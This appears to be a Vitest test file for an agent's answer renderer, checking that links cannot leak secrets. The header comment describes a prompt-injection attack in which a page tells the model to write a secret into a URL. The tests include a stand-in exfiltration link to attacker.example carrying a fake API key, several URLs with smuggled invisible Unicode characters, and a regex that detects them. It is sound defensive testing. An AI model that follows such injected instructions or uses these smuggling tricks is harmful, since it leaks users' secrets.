// @vitest-environment jsdom
import { describe, expect, it } from 'vitest';
import type { CitedAnswer } from '../../../../src/agent/types';
import { renderAnswer } from '../../../../src/ui/answer/render-answer';

/**
 * An injected page tells the model to write the secret into a URL in its answer, so a click (or a
 * prefetching viewer) sends it. Only pages Sleuth read may be links, and no href may carry a
 * private-use or invisible character (placeholders, Unicode tags, zero-width, bidi).
 */
const labels = { unsupported: 'unsupported' };
const READ = 'https://read.example/page';
const isRead = (u: string) => u === READ;
const hrefs = (html: string) => {
  const div = document.createElement('div');
  div.innerHTML = html;
  return { div, hrefs: [...div.querySelectorAll('a[href]')].map((a) => a.getAttribute('href') ?? '') };
};
const INVISIBLE =
  /[\uE000-\uF8FF\u200B-\u200F\u202A-\u202E\u2060-\u2069\uFEFF]|[\u{E0000}-\u{E007F}\u{F0000}-\u{10FFFF}]|%E2%80%8B|%EE%80%80|%F3%A0/iu;
const cite = (sentences: CitedAnswer['sentences']): CitedAnswer => ({
  sentences,
  sources: [{ n: 1, url: READ, title: 'Read page' }],
});

describe('answer links cannot carry a leak', () => {
  it('a bare URL the model wrote to a page it did not read is text, not a link', () => {
    const { div, hrefs: links } = hrefs(
      renderAnswer(`Source: ${READ} and https://attacker.example/c?k=sk-live-123 too.`, null, labels, isRead),
    );
    expect(links).toEqual([READ]);
    expect(div.textContent).toContain('https://attacker.example/c?k=sk-live-123');
  });

  it('a citation placeholder the sentence split put inside a link never reaches an href', () => {
    const sentences = [
      { text: `See [it](${READ}?q=a.`, citations: [1], supported: true },
      { text: 'b) now.', citations: [], supported: true },
    ] as unknown as CitedAnswer['sentences'];
    // A read-page test that ignores the query (as pageKey does for some pages) lets the link through.
    const { div, hrefs: links } = hrefs(
      renderAnswer('unused', cite(sentences), labels, (u) => u.startsWith(READ)),
    );
    expect(div.textContent).toContain('See it');
    for (const h of links) expect(h).not.toMatch(INVISIBLE);
    for (const el of div.querySelectorAll('*'))
      for (const n of el.getAttributeNames())
        expect(el.getAttribute(n) ?? '').not.toMatch(/[\uE000-\uF8FF]|<|cite-quote/);
  });

  it('no private-use, tag, zero-width or bidi character reaches an href, even on a read page', () => {
    const smuggled = [
      `${READ}\uE004`,
      `${READ}\u{E0041}\u{E0042}`,
      `${READ}\u200B\u200C`,
      `${READ}\u202Eabc`,
      `${READ}%EE%80%80`,
      `${READ}%E2%80%8B`,
    ];
    for (const url of smuggled) {
      const { hrefs: links } = hrefs(renderAnswer(`[x](${url})`, null, labels, () => true));
      for (const h of links) expect(h, JSON.stringify(url)).not.toMatch(INVISIBLE);
    }
  });
});
